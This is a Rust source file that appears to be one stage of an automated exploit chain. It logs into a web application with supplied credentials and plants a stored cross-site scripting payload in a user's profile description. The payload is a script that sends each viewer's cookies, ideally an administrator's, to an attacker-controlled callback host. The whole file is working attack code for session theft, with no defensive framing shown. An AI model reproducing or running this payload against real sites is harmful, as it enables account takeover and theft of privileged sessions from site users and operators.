use crate::config::ChainConfig;
use crate::errors::ChainError;
use crate::http::{endpoints, Session};
use crate::models::{Credential, Target};
use tracing::info;

/// Stores a cookie-stealing script in the victim's profile description.
/// Whoever renders the profile (ideally an admin) sends their cookie to the
/// callback listener. Success means the payload was stored; the theft
/// itself happens later, out of band.
pub struct XssStager<'a> {
    config: &'a ChainConfig,
    target: &'a Target,
}

impl<'a> XssStager<'a> {
    pub fn new(config: &'a ChainConfig, target: &'a Target) -> Self {
        Self { config, target }
    }

    pub fn payload(&self) -> String {
        format!(
            "<script>document.write('<img src=http://{}:{}/'+document.cookie+' />');</script>",
            self.target.callback_host, self.config.xss_port
        )
    }

    /// Authenticates `session` itself; it should not be the session the
    /// login stage established.
    pub async fn stage_xss(&self, session: &Session, credential: &Credential) -> Result<(), ChainError> {
        let login = [
            ("username", credential.username.as_str()),
            ("password", credential.password.as_str()),
        ];
        let reply = session.post_form(endpoints::LOGIN, &login).await?;
        if !reply.contains(&self.config.markers.motd_login) {
            return Err(ChainError::Assertion(format!(
                "login as '{}' for XSS staging failed (status {})",
                credential.username, reply.status
            )));
        }
        info!("Logged in for XSS staging");

        let payload = self.payload();
        let reply = session.post_form(endpoints::PROFILE, &[("description", payload.as_str())]).await?;
        if !reply.contains(&self.config.markers.profile_saved) {
            return Err(ChainError::Assertion(format!(
                "profile description not updated (status {})",
                reply.status
            )));
        }

        info!(
            listener = %format!("{}:{}", self.target.callback_host, self.config.xss_port),
            "XSS payload stored, waiting on a privileged viewer"
        );
        Ok(())
    }
}
